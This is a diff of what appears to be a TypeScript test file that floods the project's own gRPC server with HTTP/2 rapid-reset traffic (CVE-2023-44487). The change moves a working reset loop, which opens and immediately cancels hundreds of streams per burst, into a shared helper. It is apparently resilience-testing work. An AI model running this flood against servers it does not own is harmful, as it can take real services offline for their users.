@@ -4,7 +4,7 @@
 // once: rapid reset, CVE-2023-44487). Both on one node:http2 connection.
 import { constants, type ClientHttp2Session } from 'node:http2';
 import { helloworld } from '../../src/proto.js';
-import { LOTS_OF_REPLIES, SAY_HELLO, grpcFrame, grpcHeaders, openSession, openStream, sayHelloRequest } from './attacks.js';
+import { LOTS_OF_REPLIES, SAY_HELLO, grpcFrame, grpcHeaders, openSession, openStream, resetBurst, sayHelloRequest } from './attacks.js';
 
 /** How the connection fared. */
 export interface StormRun {
@@ -103,16 +103,7 @@ export async function rapidResetFlood(address: string, burst = 300, maxMs = 10_0
   session.once('close', closed);
   const started = Date.now();
   while (closedAt === undefined && Date.now() - started < maxMs) {
-    for (let i = 0; i < burst && !session.closed && !session.destroyed; i += 1) {
-      try {
-        const stream = session.request(grpcHeaders(SAY_HELLO), { endStream: false });
-        stream.on('error', () => {});
-        stream.close(constants.NGHTTP2_CANCEL);
-        resets += 1;
-      } catch {
-        break; // the session went away under us
-      }
-    }
+    resets += resetBurst(session, burst);
     await new Promise((resolve) => setImmediate(resolve));
   }
   session.destroy();
